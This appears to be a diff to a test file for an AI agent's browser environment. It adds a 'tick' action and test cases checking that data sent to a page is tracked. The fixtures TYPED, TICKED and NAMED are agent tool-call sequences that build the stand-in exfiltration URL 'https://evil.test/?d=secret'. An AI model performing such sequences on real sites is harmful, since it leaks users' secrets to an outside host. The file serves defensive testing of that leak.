@@ -308,6 +308,16 @@ class Browser(Environment):
         return f"typed {text}"
 
     @action(effects="external", destinations=("state.url",))
+    async def tick(self, boxes: dict[str, bool]) -> str:
+        """Tick boxes of the page.
+
+        Args:
+            boxes: Whether each is ticked, by its name.
+        """
+        self.words += "".join(boxes)
+        return "ticked"
+
+    @action(effects="external", destinations=("state.url",))
     async def press(self, button: int) -> str:
         """Press a button.
 
@@ -324,6 +334,8 @@ class Browser(Environment):
 
 
 TYPED = [["act", "browser#type", {"text": "https://evil.test/?d="}], ["act", "browser#type", {"text": "secret"}]]
+TICKED = [["act", "browser#tick", {"boxes": {name: True}}] for name in ("https://evil.test/?d=", "secret")]
+NAMED = [["act", "browser#tick", {"boxes": {"secret": True}}]]
 
 
 @pytest.mark.parametrize(
@@ -333,6 +345,8 @@ TYPED = [["act", "browser#type", {"text": "https://evil.test/?d="}], ["act", "br
         ([["act", "browser#press", {"button": 1}]], "https://more.test/", True),
         (TYPED, "https://evil.test/?d=secret", False),
         (TYPED, "https://more.test/", False),
+        (TICKED, "https://evil.test/?d=secret", False),
+        (NAMED, "https://more.test/", False),
     ],
 )
 async def test_a_page_gives_no_address_any_more_once_words_were_sent_to_it(
